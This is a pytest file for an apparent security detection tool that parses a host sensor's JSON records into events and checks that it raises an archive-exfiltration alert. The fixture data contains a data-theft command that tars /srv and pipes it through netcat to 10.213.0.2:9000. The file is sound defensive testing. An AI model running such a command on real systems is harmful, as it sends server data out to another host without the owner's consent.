"""The `sensor` source: the sensor's JSON lines back into events, from a file or a pipe."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from tests.helpers import read
from tidewaiter.events import Activity, Kind
from tidewaiter.sensor.schema import ENCODER, MARKER, VERSION, ProcessInfo, SensorRecord

CID = "9d6b35917d5189dbd6f11b463045fae23ac584d8ce053b80cfb55c00f35a0f38"


def record(**fields: object) -> SensorRecord:
    base: dict[str, object] = {
        "sensor": MARKER,
        "v": VERSION,
        "time": 1_767_225_600.5,
        "event": "exec",
        "host": "node-1",
        "pid": 42,
        "exe": "/bin/sh",
        "argv": ("sh", "-c", "tar -czf - /srv | nc 10.213.0.2 9000"),
        "container_id": CID,
        "cgroup": f"/{CID}",
    }
    base.update(fields)
    return SensorRecord(**base)  # type: ignore[arg-type]


def write(path: Path, *records: SensorRecord, extra: bytes = b"") -> Path:
    path.write_bytes(b"".join(ENCODER.encode(r) + b"\n" for r in records) + extra)
    return path


def test_records_become_events_of_their_container(tmp_path: Path) -> None:
    path = write(
        tmp_path / "host.jsonl",
        record(ppid=7, parent=ProcessInfo(7, "/bin/bash", ("bash",))),
        record(event="create", pid=43, exe="/bin/tar", argv=("tar", "-czf", "-"), path="/tmp/a"),
        record(event="connect", pid=44, exe="/bin/nc", daddr="10.213.0.2", dport=9000, ret=-115),
        record(event="send", pid=44, exe="/bin/nc", daddr="10.213.0.2", dport=9000, bytes=4096),
    )
    events, report = read(path)  # sniffed
    assert report.files[str(path)] == "sensor"
    launch, create, connect, send = events
    assert (launch.kind, launch.activity) == (Kind.PROCESS, Activity.LAUNCH)
    assert launch.container is not None
    assert launch.container.uid == CID
    assert launch.host == "node-1"
    process = launch.process
    assert process is not None
    assert process.args == (
        "sh",
        "-c",
        "tar -czf - /srv | nc 10.213.0.2 9000",
    )
    # The command line splits back into exactly the argv, so `sh -c` payloads survive.
    assert process.cmd_line is not None
    assert shlex.split(process.cmd_line) == list(process.args)
    assert process.parent is not None
    assert process.parent.path == "/bin/bash"
    assert (create.kind, create.activity) == (Kind.FILE, Activity.CREATE)
    assert create.file is not None
    assert create.file.path == "/tmp/a"
    assert connect.dst_endpoint is not None
    assert connect.dst_endpoint.port == 9000
    assert send.traffic is not None
    assert send.traffic.bytes_out == 4096


def test_host_processes_have_no_container(tmp_path: Path) -> None:
    path = write(tmp_path / "h.jsonl", record(container_id=None, cgroup="/system.slice/x"))
    [event], _ = read(path)
    assert event.container is None


def test_bad_lines_are_counted_with_their_line(tmp_path: Path) -> None:
    path = write(
        tmp_path / "bad.jsonl",
        record(),
        extra=b'{"sensor":"tidewaiter-sensor","v":1}\nnot json at all\n'
        + ENCODER.encode(record(event="create", path=None))
        + b"\n",
    )
    events, report = read(path, "sensor")
    assert len(events) == 1
    assert report.skipped_total == 3
    assert {p.where for p in report.examples} == {"line 2", "line 3", "line 4"}


def test_the_sensor_source_detects_an_exfiltration(tmp_path: Path) -> None:
    from tidewaiter.pipeline import EngineConfig
    from tidewaiter.run import detect_files

    path = write(
        tmp_path / "x.jsonl",
        record(),
        record(event="exec", pid=43, exe="/bin/tar", argv=("tar", "-czf", "-", "/srv")),
        record(event="send", pid=44, exe="/bin/nc", argv=("nc", "10.213.0.2", "9000"),
               daddr="10.213.0.2", dport=9000, bytes=200_000, time=1_767_225_601.0),
    )  # fmt: skip
    outcome = detect_files([str(path)], EngineConfig(external_cidrs=("10.213.0.2/32",)), [])
    [alert] = outcome.alerts
    assert alert["finding_info"]["analytic"]["uid"] == "tw-archive-exfil"
    assert alert["device"]["container"]["uid"] == CID


def test_the_watch_input_hands_out_queued_records_as_events(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tidewaiter.sensor import stream

    monkeypatch.setattr(stream, "MAX_QUEUED", 3)
    live = stream.SensorInput(label="sensor:test")
    for pid in range(5):
        live._put(record(pid=pid))  # what the sensor's reader thread does
    assert live.dropped == 2
    assert live.behind() > 0
    assert live.position() is None
    first = live.poll(budget=1)  # at least one record, however small the budget
    rest = live.poll(budget=1 << 20)
    assert [e.process.pid for e in first + rest if e.process] == [2, 3, 4]
    assert [e.raw.line for e in first + rest] == [1, 2, 3]
    assert {e.raw.path for e in rest} == {"sensor:test"}
    assert live.behind() == 0
    assert not live.finished
